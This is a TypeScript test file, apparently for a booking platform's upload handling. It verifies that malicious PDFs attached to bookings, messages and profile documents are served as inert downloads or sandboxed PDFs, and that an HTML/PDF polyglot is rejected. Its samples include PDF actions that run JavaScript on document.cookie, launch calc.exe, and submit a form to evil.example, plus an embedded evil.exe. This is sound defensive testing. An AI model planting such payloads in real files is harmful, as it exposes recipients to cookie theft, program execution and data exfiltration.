import type { LightMyRequestResponse } from "fastify"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { z } from "zod"
import { createHarness, type Harness } from "./testing.ts"

let stage: Harness
beforeAll(async () => {
  stage = await createHarness()
})
afterAll(() => stage.close())

const pdf = (catalog: string, before = ""): string =>
  `%PDF-1.7\n${before}1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`

/** What a PDF can do to whoever opens it; nothing here opens it, and no page of ours shows it. */
const CONTENTS = [
  ["a script", pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>")],
  ["a program to launch", pdf("/OpenAction << /S /Launch /F (calc.exe) >>")],
  ["an address to open", pdf("/OpenAction << /S /URI /URI (https://evil.example/) >>")],
  ["a form to send", pdf("/OpenAction << /S /SubmitForm /F (https://evil.example/) /Flags 4 >>")],
  ["a file within", pdf("/Names << /EmbeddedFiles << /Names [(evil.exe) 3 0 R] >> >>")],
  ["a page of a website", pdf("", "<html><script>fetch('/rest/v2/user/details/')</script></html>\n")],
] as const

const formWith = (details: object, content: string): FormData => {
  const form = new FormData()
  form.set("details", JSON.stringify(details))
  form.set("files", new File([content], "letter.html", { type: "text/html" }))
  return form
}

const ids = z.object({ id: z.string() })

/** Attached to a booking that is paid for; handed to the specialist. */
const withBooking = async (content: string): Promise<LightMyRequestResponse> => {
  const { ana, ioana, call } = stage
  const [free] = await stage.times({ planted: ioana.planted, as: ana })
  const payload = formWith(stage.bookingOf(free?.offer ?? ""), content)
  const response = await call({ as: ana, method: "POST", url: "/rest/v2/bookings", payload })
  const booked = z.object({ appUuid: z.string(), orderID: z.string() }).parse(response.json())
  const paying = { method: "card", nonce: await stage.nonce(ana) }
  await call({ as: ana, method: "POST", url: `/api/v2/orders/${booked.orderID}/payments`, payload: paying })
  const url = `/api/v2/appointments/${booked.appUuid}`
  const left = await call({ as: ioana, url: `${url}/preparation` })
  const { attachments } = z.object({ attachments: z.tuple([ids]) }).parse(left.json())
  return await call({ as: ioana, url: `${url}/attachments/${attachments[0].id}` })
}

/** Sent in a message. */
const withMessage = async (content: string): Promise<LightMyRequestResponse> => {
  const { ana, ioana, call } = stage
  const { uuid } = await stage.buy(ana, ioana.planted)
  const payload = { appointmentUuid: uuid }
  const begun = await call({ as: ana, method: "POST", url: "/api/v2/conversations", payload })
  const url = `/api/v2/conversations/${ids.parse(begun.json()).id}/messages`
  const sent = await call({ as: ana, method: "POST", url, payload: formWith({ text: "" }, content) })
  const { files } = z.object({ files: z.tuple([ids]) }).parse(sent.json())
  return await call({ as: ioana, url: `/rest/client/fileDownload?fileID=${files[0].id}` })
}

const documentsSeen = new Set<string>()
/** What proves a specialist's title, which an admin looks at. */
const withProfile = async (content: string): Promise<LightMyRequestResponse> => {
  const { ioana, call } = stage
  const url = "/api/v2/spec-wizard/documents"
  const payload = formWith({ kind: "degree" }, content)
  const added = await call({ as: ioana, method: "POST", url, payload })
  const { documents } = z.object({ documents: z.array(ids) }).parse(added.json())
  const id = documents.map((each) => each.id).find((each) => !documentsSeen.has(each)) ?? ""
  documentsSeen.add(id)
  return await call({ as: ioana, url: `${url}/${id}` })
}

describe.each(CONTENTS)("a PDF with %s", (_what, content) => {
  test.each([
    ["a booking", withBooking],
    ["a message", withMessage],
  ])("comes with %s to be kept, never to be shown, as it was sent", async (_way, send) => {
    const answer = await send(content)
    expect(answer.statusCode).toBe(200)
    expect(answer.headers).toMatchObject({
      "content-type": "application/octet-stream",
      "content-disposition": expect.stringMatching(/^attachment; /),
      "content-security-policy": expect.stringMatching(/^default-src 'none'/),
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
    })
    expect(answer.rawPayload.toString()).toBe(content)
  })

  test("comes with a profile as nothing but a PDF, in a sandbox of its own", async () => {
    const answer = await withProfile(content)
    expect(answer.statusCode).toBe(200)
    expect(answer.headers).toMatchObject({
      "content-type": "application/pdf",
      "content-security-policy": expect.stringMatching(/^sandbox; default-src 'none'/),
      "x-content-type-options": "nosniff",
      "cross-origin-resource-policy": "same-origin",
    })
    expect(answer.rawPayload.toString()).toBe(content)
  })
})

test("what begins as a page and only then is a PDF is taken nowhere", async () => {
  const { ioana, call } = stage
  const payload = formWith({ kind: "degree" }, `<html><script>alert(1)</script></html>\n${pdf("")}`)
  const refused = await call({ as: ioana, method: "POST", url: "/api/v2/spec-wizard/documents", payload })
  expect([refused.statusCode, refused.json().errorCode]).toEqual([415, "wrongFileType"])
})
